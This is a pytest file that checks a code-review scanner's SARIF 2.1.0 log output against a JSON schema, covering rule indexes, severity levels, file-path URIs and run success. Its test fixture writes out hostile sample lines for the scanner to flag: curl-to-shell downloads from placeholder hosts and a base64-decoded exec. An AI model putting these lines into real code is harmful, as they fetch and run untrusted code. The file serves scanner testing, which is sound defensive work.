"""SARIF 2.1.0, checked against what the specification asks of each object we write."""

import re
from typing import Any
from urllib.parse import unquote_to_bytes

import jsonschema
import pytest

from reviewqueue.commands.answers import Answer
from reviewqueue.commands.sarif import log
from reviewqueue.domain.finding import (
    Confidence,
    Finding,
    Location,
    Pathway,
    Risk,
    Scan,
    Severity,
    Side,
)
from reviewqueue.rules import catalogue
from reviewqueue.scan.diff import Diff
from reviewqueue.scan.engine import Scanner
from reviewqueue.scan.parser import display
from reviewqueue.scan.rule import Subject

_MESSAGE = {
    "type": "object",
    "properties": {"text": {"type": "string", "minLength": 1}},
    "required": ["text"],
    "additionalProperties": False,
}
_PLACE = {
    "type": "object",
    "properties": {
        "artifactLocation": {
            "type": "object",
            # RFC 3986: a relative reference whose first segment has no colon.
            "properties": {"uri": {"pattern": r"^(?:[\w.~!$&'()*+,;=@/-]|%[0-9A-Fa-f]{2})+$"}},
            "required": ["uri"],
            "additionalProperties": False,
        },
        "region": {
            "type": "object",
            "properties": {
                "startLine": {"type": "integer", "minimum": 1},
                "snippet": {"type": "object", "properties": {"text": {"type": "string"}}},
            },
            "required": ["startLine"],
            "additionalProperties": False,
        },
    },
    "required": ["artifactLocation"],
    "additionalProperties": False,
}
_LEVEL = {"enum": ["none", "note", "warning", "error"]}


def _locations(*more: str) -> dict[str, Any]:
    properties = {"physicalLocation": _PLACE, "id": {"type": "integer", "minimum": 0}}
    return {
        "type": "array",
        "uniqueItems": True,
        "items": {
            "type": "object",
            "properties": properties,
            "required": ["physicalLocation", *more],
            "additionalProperties": False,
        },
    }


_RULE = {
    "type": "object",
    "properties": {
        "id": {"type": "string", "minLength": 1},
        "shortDescription": _MESSAGE,
        "help": _MESSAGE,
        "defaultConfiguration": {
            "type": "object",
            "properties": {"level": _LEVEL},
            "additionalProperties": False,
        },
        "properties": {
            "type": "object",
            "properties": {"tags": {"type": "array", "uniqueItems": True}},
        },
    },
    "required": ["id"],
    "additionalProperties": False,
}
_RESULT = {
    "type": "object",
    "properties": {
        "ruleId": {"type": "string"},
        "ruleIndex": {"type": "integer", "minimum": -1},
        "level": _LEVEL,
        "message": _MESSAGE,
        "locations": _locations(),
        "relatedLocations": _locations("id"),
        "partialFingerprints": {"type": "object", "additionalProperties": {"type": "string"}},
        "properties": {"type": "object"},
    },
    "required": ["message"],
    "additionalProperties": False,
}
_NOTIFICATION = {
    "type": "object",
    "properties": {"level": _LEVEL, "message": _MESSAGE},
    "required": ["message"],
    "additionalProperties": False,
}
_RUN = {
    "type": "object",
    "properties": {
        "tool": {
            "type": "object",
            "properties": {
                "driver": {
                    "type": "object",
                    "properties": {
                        "name": {"type": "string"},
                        "version": {"type": "string"},
                        "rules": {"type": "array", "items": _RULE, "uniqueItems": True},
                    },
                    "required": ["name"],
                    "additionalProperties": False,
                }
            },
            "required": ["driver"],
            "additionalProperties": False,
        },
        "invocations": {
            "type": "array",
            "items": {
                "type": "object",
                "properties": {
                    "executionSuccessful": {"type": "boolean"},
                    "toolExecutionNotifications": {"type": "array", "items": _NOTIFICATION},
                },
                "required": ["executionSuccessful"],
                "additionalProperties": False,
            },
        },
        "columnKind": {"enum": ["utf16CodeUnits", "unicodeCodePoints"]},
        "results": {"type": "array", "items": _RESULT},
        "properties": {"type": "object"},
    },
    "required": ["tool"],
    "additionalProperties": False,
}
_LOG = {
    "type": "object",
    "properties": {
        "$schema": {"type": "string", "pattern": r"^https://.*/sarif-schema-2\.1\.0\.json$"},
        "version": {"const": "2.1.0"},
        "runs": {"type": "array", "items": _RUN},
    },
    "required": ["version", "runs"],
    "additionalProperties": False,
}
_PATH = b"src/a b/%41\xff:\xc3\xa9\n#?.py"
_QUOTED = b"src/a b/%41\\377:\\303\\251\\n#?.py"


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(catalogue(), b"salt")


def _risky(name: bytes, *, removed: bool = False) -> Diff:
    lines = (
        b'os.system("curl https://x.example/i.sh | sh")',
        b'os.system("curl https://y.example/i.sh | sh")',
        b"exec(base64.b64decode(PAYLOAD))",
        b"assert check_signature(update)",
    )
    mark, count = (b"-", b"-1,4 +0,0") if removed else (b"+", b"-0,0 +1,4")
    body = b"".join(mark + line + b"\n" for line in lines)
    header = b'diff --git "a/%s" "b/%s"\nindex 11111111..22222222 100644\n' % (name, name)
    return Diff(header + b'--- "a/%s"\n+++ "b/%s"\n@@ %s @@\n%s' % (name, name, count, body))


def _log(*scans: Scan, problems: tuple[str, ...] = ()) -> dict[str, Any]:
    answers = [Answer(f"source {number}", scan) for number, scan in enumerate(scans)]
    return log(answers, catalogue(), problems)


def test_it_is_sarif_whatever_was_scanned(scanner: Scanner) -> None:
    diffs = [_risky(_QUOTED), _risky(_QUOTED, removed=True), Diff(b""), Diff(b"garbage\n")]
    scans = [scanner.scan(diff, Subject()) for diff in diffs]
    for of in ([], scans[:1], scans):
        jsonschema.Draft7Validator(_LOG).validate(_log(*of, problems=("x: no such file",)))


def test_every_result_names_a_rule_that_the_log_explains(scanner: Scanner) -> None:
    (run,) = _log(scanner.scan(_risky(b"a.py"), Subject()))["runs"]
    rules = run["tool"]["driver"]["rules"]
    assert [rule["id"] for rule in rules] == [rule.id for rule in catalogue()]
    assert all(rule["help"]["text"] for rule in rules)
    assert run["results"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]


def test_levels_follow_severities(scanner: Scanner) -> None:
    scan = scanner.scan(_risky(b"a.py"), Subject())
    levels = {"low": "note", "medium": "warning", "high": "error", "critical": "error"}
    (run,) = _log(scan)["runs"]
    told = [(r["ruleId"], r["level"]) for r in run["results"]]
    assert told == [(f.rule, levels[f.severity]) for f in scan.findings]


def test_a_place_leads_back_to_the_files_own_bytes(scanner: Scanner) -> None:
    (run,) = _log(scanner.scan(_risky(_QUOTED), Subject()))["runs"]
    uris = {
        place["physicalLocation"]["artifactLocation"]["uri"]
        for result in run["results"]
        for place in result["locations"]
    }
    assert {unquote_to_bytes(uri) for uri in uris} == {_PATH}
    assert all(re.fullmatch(r"[\x21-\x7e]+", uri) for uri in uris)
    assert display(_PATH) not in uris


@pytest.mark.parametrize(
    ("path", "line", "side", "regions"),
    [
        ("a.py", 7, Side.NEW, [7]),
        ("a.py", 7, Side.OLD, [None]),
        ("a.py", None, Side.NONE, [None]),
        ("", None, Side.NONE, []),
    ],
)
def test_only_lines_of_the_file_as_it_is_are_regions(
    path: str, line: int | None, side: Side, regions: list[int | None]
) -> None:
    at = Location(path, line, side, "evidence")
    finding = Finding("x", Pathway.GATE, Severity.LOW, Confidence.LOW, "said", (at, at, at))
    whole = _log(Scan(Risk.LOW, (finding,), None, 1, 1, 1, "v"))
    jsonschema.Draft7Validator(_LOG).validate(whole)
    (result,) = whole["runs"][0]["results"]
    found = [
        place["physicalLocation"].get("region", {}).get("startLine")
        for place in result["locations"]
    ]
    assert found == regions
    assert result["properties"]["line"] == line
    assert len(result["relatedLocations"]) == 2 * len(regions)


def test_what_was_not_read_makes_the_run_unsuccessful(scanner: Scanner) -> None:
    clean, cut = scanner.scan(Diff(b""), Subject()), scanner.scan(Diff(b"x\n"), Subject())
    for scans, problems, good in (
        ((clean,), (), True),
        ((clean, cut), (), False),
        ((clean,), ("gone: no such file",), False),
    ):
        (invocation,) = _log(*scans, problems=problems)["runs"][0]["invocations"]
        assert invocation["executionSuccessful"] is good
        assert bool(invocation["toolExecutionNotifications"]) is not good
